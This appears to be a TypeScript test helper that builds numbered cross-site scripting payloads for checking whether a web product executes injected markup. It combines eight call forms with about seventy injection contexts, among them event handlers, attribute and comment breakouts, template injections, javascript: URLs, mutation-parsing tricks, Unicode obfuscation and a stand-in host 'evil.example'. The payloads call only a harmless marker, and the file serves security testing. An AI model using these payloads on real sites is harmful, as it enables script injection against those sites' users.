/** What a page has when one of these texts is executed in it: it is told the number of the text. */
export const EXECUTED = '__executed';

/** Nothing of the product is there, and nothing may be asked of it. */
export const FOREIGN_HOST = 'evil.example';

const CALLS: readonly ((call: string) => string)[] = [
  (call) => call,
  (call) => `top.${call}`,
  (call) => `eval('${call}')`,
  (call) => `[].map.constructor('${call}')()`,
  (call) => `setTimeout('${call}')`,
  (call) => `window['${EXECUTED}']${call.slice(EXECUTED.length)}`,
  (call) => `(0,${EXECUTED})${call.slice(EXECUTED.length)}`,
  (call) => `Promise.resolve().then(()=>${call})`,
];

const CONTEXTS: readonly ((code: string) => string)[] = [
  // Elements that run by themselves.
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt\n>${code}</sCrIpT >`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<img/src/onerror=${code}//`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<svg><set onbegin=${code} attributename=x>`,
  (code) => `<body onload=${code}>`,
  (code) => `<details open ontoggle=${code}>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<video><source onerror=${code}></video>`,
  (code) => `<audio src=x onerror=${code}>`,
  (code) => `<iframe onload=${code}></iframe>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:parent.${code}"></iframe>`,
  (code) => `<object data="data:text/html,<script>${code}</script>"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<style onload=${code}></style>`,
  (code) => `<link rel=stylesheet href=//${FOREIGN_HOST}/x.css onerror=${code}>`,
  (code) => `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  (code) => `<base href=//${FOREIGN_HOST}/><script src=/${code}></script>`,
  (code) => `<form action=javascript:${code}><button autofocus>`,
  // Out of an attribute, a comment or an element with text of its own.
  (code) => `"><img src=x onerror=${code}>`,
  (code) => `'><img src=x onerror=${code}>`,
  (code) => `" autofocus onfocus="${code}" x="`,
  (code) => `' autofocus onfocus='${code}' x='`,
  (code) => `" onmouseover=${code} style="position:fixed;inset:0" x="`,
  (code) => `--><script>${code}</script><!--`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</textarea><script>${code}</script>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `</style><img src=x onerror=${code}>`,
  (code) => `</noscript><img src=x onerror=${code}>`,
  (code) => `</option></select><img src=x onerror=${code}>`,
  (code) => `]]><script>${code}</script>`,
  // Out of a script, a template or JSON in a page.
  (code) => `";${code};//`,
  (code) => `';${code};//`,
  (code) => `\`;${code};//`,
  (code) => `\\";${code};//`,
  (code) => `*/${code}/*`,
  (code) => `\u2028${code}\u2029//`,
  (code) => `<!--<script>${code}`,
  (code) => `"}</script><script>${code}</script>`,
  (code) => `\${${code}}`,
  (code) => `{{${code}}}`,
  (code) => `{{constructor.constructor("${code}")()}}`,
  (code) => `#{${code}} <%= ${code} %>`,
  (code) => `{${code}} {name} {count, plural, other {#}}`,
  (code) => `<b>{t}</b> [lien](javascript:${code})`,
  // Addresses.
  (code) => `javascript:${code}`,
  (code) => `JaVa\tScRiPt:${code}`,
  (code) => `javascript://${FOREIGN_HOST}/%0a${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `<a href="&#106;avascript:${code}" id=x autofocus>x</a>`,
  (code) => `//${FOREIGN_HOST}/${code}`,
  // Changed into something else by parsing it twice.
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<svg></p><style><a id="</style><img src=x onerror=${code}>">`,
  (code) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${code}>`,
  (code) => `<template><img src=x onerror=${code}></template>`,
  (code) => `&lt;img src=x onerror=${code}&gt;`,
  (code) => `&#60;script&#62;${code}&#60;/script&#62;`,
  (code) => `\uff1cscript\uff1e${code}\uff1c/script\uff1e`,
  // Turned around, hidden, or styled.
  (code) => `\u202e<img src=x onerror=${code}>\u202c`,
  (code) => `\u2066\u200b<script>${code}</script>\u2069`,
  (code) => `x;background:url(//${FOREIGN_HOST}/${code})`,
  (code) => `<p style="background:url(//${FOREIGN_HOST}/x)" onclick=${code}>x</p>`,
];

/** How many different ones there are. */
export const HOSTILE_TEXTS = CALLS.length * CONTEXTS.length;

/** By this it is recognised on a page, and by this it says that it was executed. */
export const markOf = (number: number) => `${EXECUTED}(${number})`;

/** The hostile text of that number, of some 60 to 120 characters; after the last comes the first, with another mark. */
export function hostileText(number: number): string {
  const context = CONTEXTS[number % CONTEXTS.length] ?? String;
  const call = CALLS[Math.floor(number / CONTEXTS.length) % CALLS.length] ?? String;
  return context(call(markOf(number)));
}
